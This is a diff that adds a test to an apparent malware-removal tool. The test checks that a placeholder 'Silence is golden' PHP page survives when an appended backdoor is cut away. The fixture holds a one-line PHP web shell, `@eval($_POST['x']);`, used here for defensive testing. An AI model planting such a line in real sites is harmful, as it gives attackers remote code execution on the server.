@@ -106,6 +106,13 @@ def test_surgeon_known_hash_takes_that_cut_only(surgeon: Surgeon) -> None:
     assert surgeon.cut("part.php", infected, another).content is None
 
 
+def test_surgeon_page_that_is_empty_on_purpose_stays(surgeon: Surgeon) -> None:
+    """`Silence is golden` is a site's file, though it does nothing."""
+    page = b"<?php\n// Silence is golden.\n"
+
+    assert surgeon.cut("wp-content/index.php", page + b"@eval($_POST['x']);\n").content == page
+
+
 def test_surgeon_clean_file_cuts_nothing(surgeon: Surgeon) -> None:
     """In a file in which nothing is found there is nothing to cut."""
     assert surgeon.cut("part.php", SITE).content is None
